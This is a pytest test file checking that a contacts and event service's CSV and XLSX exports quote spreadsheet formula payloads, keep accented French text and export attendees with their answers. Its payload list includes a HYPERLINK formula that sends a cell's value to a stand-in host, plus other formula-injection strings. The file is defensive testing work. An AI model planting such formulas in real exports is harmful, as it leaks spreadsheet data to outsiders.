"""Exports for Excel: formula payloads neutralised in CSV and XLSX, accents kept, lists and
attendees as rows."""

from __future__ import annotations

import codecs
import csv
import io
import warnings
from pathlib import Path

import openpyxl
import pytest

from contacts.exports import (
    EXPORT_COLUMNS,
    list_rows,
    safe_cell,
    write_csv,
    write_xlsx,
    xlsx_sheet_title,
)
from contacts.imports import import_contacts
from service.errors import NotFound
from service.registrations import services
from service.tracking.exports import ATTENDEE_EXPORT_COLUMNS as ATTENDEE_COLUMNS
from service.tracking.exports import attendee_export_columns as attendee_columns
from service.tracking.exports import attendee_export_rows as attendee_rows
from tests.helpers import act

PAYLOADS = ['=HYPERLINK("http://x.example.org/?c="&A1,"Cliquez")', "+1", "-2+3", "@SUM(A1)"]
PAYLOADS += ["\t=1", "\r=1", "=1+2", "-", " =1", "  @SUM(A1)", "\x00=1"]
ORDINARY = [
    "Françoise Lefèvre",
    "Île-de-France",
    "SCIC « Énergies citoyennes », Quercy",
    'Dite "la Présidente"',
    "Œuvre d'entraide — ligne 1\nligne 2",
    "06 12 34 56 78",
    "claire.martin@example.org",
    "1+1",
    "a=b",
    "#N/A",
    "",
]


def csv_bytes(rows, columns, **kwargs) -> bytes:
    out = io.BytesIO()
    write_csv(rows, columns, out, **kwargs)
    return out.getvalue()


def read_csv(data: bytes, delimiter: str = ",") -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def read_xlsx(data: bytes) -> tuple[str, list[list[object]], list[list[str]]]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    types = [[c.data_type for c in row if c.value is not None] for row in sheet.iter_rows()]
    return sheet.title, values, types


def xlsx_bytes(rows, columns, title="Export") -> bytes:
    out = io.BytesIO()
    write_xlsx(rows, columns, out, sheet_title=title)
    return out.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_quotes_what_a_spreadsheet_would_evaluate(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ORDINARY)
def test_safe_cell_leaves_ordinary_text_alone(text):
    assert safe_cell(text) == text


def test_safe_cell_of_other_values():
    assert (safe_cell(None), safe_cell(12), safe_cell(-3), safe_cell(True)) == (
        "",
        "12",
        "'-3",
        "True",
    )


def test_csv_is_utf8_with_bom_crlf_and_neutralises_every_payload():
    rows = [{"email": f"p{i}@example.org", "last_name": p} for i, p in enumerate(PAYLOADS)]
    data = csv_bytes(rows, ["email", "last_name"])
    assert data.startswith(codecs.BOM_UTF8 + b"email,last_name\r\n")
    body = data.replace(b"\r\n", b"")
    assert b"\n" not in body  # every record ends with CRLF
    read = read_csv(data)
    assert read[0] == ["email", "last_name"]
    assert [r[1] for r in read[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[0] for r in read[1:]] == [f"p{i}@example.org" for i in range(len(PAYLOADS))]


def test_csv_round_trips_ordinary_text_exactly_and_accepts_a_delimiter():
    rows = [{"name": text, "n": i} for i, text in enumerate(ORDINARY)]
    for delimiter in (",", ";", "\t"):
        read = read_csv(csv_bytes(rows, ["name", "n"], delimiter=delimiter), delimiter)
        assert [r[0] for r in read[1:]] == ORDINARY
        assert [r[1] for r in read[1:]] == [str(i) for i in range(len(ORDINARY))]


def test_csv_headers_are_neutralised_and_missing_values_written_empty():
    read = read_csv(csv_bytes([{"a": "x"}], ["a", "=b"]))
    assert read == [["a", "'=b"], ["x", ""]]


def test_csv_leaves_the_binary_stream_open():
    out = io.BytesIO()
    write_csv([], ["email"], out)
    out.write(b"more")
    assert out.getvalue() == codecs.BOM_UTF8 + b"email\r\nmore"


def test_xlsx_neutralises_every_payload_and_types_every_cell_as_text():
    rows = [{"email": f"p{i}@example.org", "last_name": p} for i, p in enumerate(PAYLOADS)]
    rows.append({"email": "na@example.org", "last_name": "#N/A", "phone": 612345678})
    _, values, types = read_xlsx(xlsx_bytes(rows, ["email", "last_name", "phone"]))
    assert values[0] == ["email", "last_name", "phone"]
    # XML cannot hold NUL, which is dropped, nor keep a CR, which is written LF; what follows
    # is quoted all the same.
    expected = ["'" + p.replace("\x00", "").replace("\r", "\n") for p in PAYLOADS] + ["#N/A"]
    assert [row[1] for row in values[1:]] == expected
    assert values[-1][2] == "612345678"
    assert {t for row in types for t in row} == {"s"}


def test_xlsx_round_trips_ordinary_text_exactly():
    rows = [{"n": i, "name": text} for i, text in enumerate(ORDINARY)]
    _, values, _ = read_xlsx(xlsx_bytes(rows, ["n", "name"]))
    assert [row[0] for row in values[1:]] == [str(i) for i in range(len(ORDINARY))]
    # An empty string is an empty cell, which reads back as None.
    assert [row[1] or "" for row in values[1:]] == ORDINARY


def test_xlsx_sheet_title_is_made_acceptable_to_excel():
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        title, _, _ = read_xlsx(xlsx_bytes([], ["a"], "Inscrits : Rencontre [PTCE] 2025/07/05"))
    assert title == "Inscrits - Rencontre -PTCE- 202"
    assert len(title) == 31
    assert xlsx_sheet_title("'*?'") == "--"
    assert xlsx_sheet_title("") == "Export"


# --- Rows from the database --------------------------------------------------------------------


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_list_rows_have_every_column_in_name_order(db, settings, tmp_path):
    cncres = write(
        tmp_path,
        "cncres.csv",
        "Courriel;Prénom;Nom;Structure;Fonction;Région;Tags\n"
        "zoe.ecole@example.org;Zoé;École;CRESS Bretagne;Chargée de mission;Bretagne;élus, 2025\n"
        "a.martin@example.fr;Alain;Martin;;;;\n"
        "claire.martin@example.org;Claire;martin;SCIC Habitat;;Occitanie;\n"
        "sans.nom@example.net;;;;;;\n"
        'f@example.org;=HYPERLINK("http://x");-2+3;@SUM(A1);;;\n',
    )
    rtes = write(tmp_path, "rtes.csv", "Email,Phone\nclaire.martin@example.org,06 12 34 56 78\n")
    import_contacts(db, settings, cncres, "CNCRES")
    import_contacts(db, settings, rtes, "RTES")
    with db.transaction(write=False) as session:
        rows = list_rows(session, "CNCRES")
        assert [r["email"] for r in list_rows(session, "RTES")] == ["claire.martin@example.org"]
    assert [r["email"] for r in rows] == [
        "sans.nom@example.net",
        "f@example.org",
        "zoe.ecole@example.org",
        "a.martin@example.fr",
        "claire.martin@example.org",
    ]
    assert all(list(r) == list(EXPORT_COLUMNS) for r in rows)
    zoe, claire = rows[2], rows[4]
    assert {k: zoe[k] for k in EXPORT_COLUMNS if k != "added_at"} == {
        "email": "zoe.ecole@example.org",
        "first_name": "Zoé",
        "last_name": "École",
        "organisation": "CRESS Bretagne",
        "role": "Chargée de mission",
        "region": "Bretagne",
        "phone": "",
        "language": "fr",
        "tags": "élus, 2025",
        "lists": "CNCRES",
    }
    assert zoe["added_at"].endswith("+00:00")
    assert (claire["lists"], claire["phone"]) == ("CNCRES, RTES", "06 12 34 56 78")

    read = read_csv(csv_bytes(rows, EXPORT_COLUMNS))
    by_email = {r[0]: r for r in read[1:]}
    assert by_email["f@example.org"][1:4] == ['\'=HYPERLINK("http://x")', "'-2+3", "'@SUM(A1)"]
    assert by_email["zoe.ecole@example.org"][1:3] == ["Zoé", "École"]
    _, values, _ = read_xlsx(xlsx_bytes(rows, EXPORT_COLUMNS, "CNCRES"))
    assert values[2][1:4] == ['\'=HYPERLINK("http://x")', "'-2+3", "'@SUM(A1)"]


def test_list_rows_of_an_unknown_list(db):
    with db.transaction(write=False) as session, pytest.raises(NotFound) as error:
        list_rows(session, "COORACE")
    assert error.value.fields == {"list": "no list called 'COORACE'"}


QUESTIONS = [
    {"key": "dejeuner", "label": "Déjeuner sur place", "kind": "yes_no"},
    {"key": "regime", "label": "Régime alimentaire", "kind": "text"},
    {"key": "atelier", "label": "Atelier", "kind": "choice", "choices": ["A", "B"]},
]


def test_attendee_rows_are_the_confirmed_and_present_with_their_answers(db, factory):
    event_id = factory.event(
        capacity=3, questions=QUESTIONS, registration={"waitlist_policy": "confirm"}
    )
    people = factory.invitees(event_id, 5)
    answers = [
        {"dejeuner": "oui", "regime": "=1+1 végétarien", "atelier": "A"},
        {"atelier": "B"},
        {"dejeuner": True, "regime": "sans gluten"},
        {},
    ]
    for person, given in zip(people, answers, strict=False):
        act(db, person.invitation_id, services.register, given)
    act(db, people[2].invitation_id, services.cancel)  # the seat goes to people[3]
    act(db, people[4].invitation_id, services.register, {})  # waits
    act(db, people[1].invitation_id, services.mark_attended)
    with db.transaction(write=False) as session:
        columns = attendee_columns(session, event_id)
        rows = attendee_rows(session, event_id)
    assert columns == [*ATTENDEE_COLUMNS, "q_dejeuner", "q_regime", "q_atelier"]
    assert [(r["email"], r["status"]) for r in rows] == [
        (people[0].email, "confirmed"),
        (people[1].email, "attended"),
        (people[3].email, "confirmed"),
    ]
    assert [list(r) for r in rows] == [columns] * 3
    assert [(r["q_dejeuner"], r["q_regime"], r["q_atelier"]) for r in rows] == [
        ("oui", "=1+1 végétarien", "A"),
        ("non", "", "B"),
        ("non", "", ""),
    ]
    assert (rows[0]["first_name"], rows[0]["last_name"]) == ("Personne", "0")
    assert rows[1]["attended_at"]
    assert rows[1]["confirmed_at"]

    read = read_csv(csv_bytes(rows, columns, delimiter=";"), ";")
    assert read[0][-3:] == ["q_dejeuner", "q_regime", "q_atelier"]
    assert read[1][-2] == "'=1+1 végétarien"
    _, values, _ = read_xlsx(xlsx_bytes(rows, columns, "Inscrits"))
    assert values[1][-2] == "'=1+1 végétarien"


def test_attendee_rows_of_an_unknown_event_and_of_an_empty_one(db, factory):
    with db.transaction(write=False) as session, pytest.raises(NotFound) as error:
        attendee_rows(session, 999_999)
    assert error.value.fields == {"event": "no event with id 999999"}
    event_id = factory.event(questions=QUESTIONS[:1])
    with db.transaction(write=False) as session:
        assert attendee_rows(session, event_id) == []
        assert attendee_columns(session, event_id) == [*ATTENDEE_COLUMNS, "q_dejeuner"]


def test_csv_of_many_rows_is_written_whole():
    rows = [{"email": f"p{i}@example.org", "name": "Élodie Müller-Lefèvre"} for i in range(5000)]
    read = read_csv(csv_bytes(rows, ["email", "name"]))
    assert len(read) == 5001
    assert read[-1] == ["p4999@example.org", "Élodie Müller-Lefèvre"]


def test_xlsx_writes_numbers_as_numbers_when_asked_and_text_still_as_text():
    out = io.BytesIO()
    rows = [{"liste": "=CNCRES", "invités": 10, "taux": 22.2, "oui": True}]
    write_xlsx(rows, ["liste", "invités", "taux", "oui"], out, numbers=True)
    _, values, types = read_xlsx(out.getvalue())
    assert values[1][1:3] == [10, 22.2]
    assert types[1] == ["s", "n", "n", "s"]  # a formula-like text stays text, a bool too
    assert values[1][0] != "=CNCRES"  # neutralised as every text cell
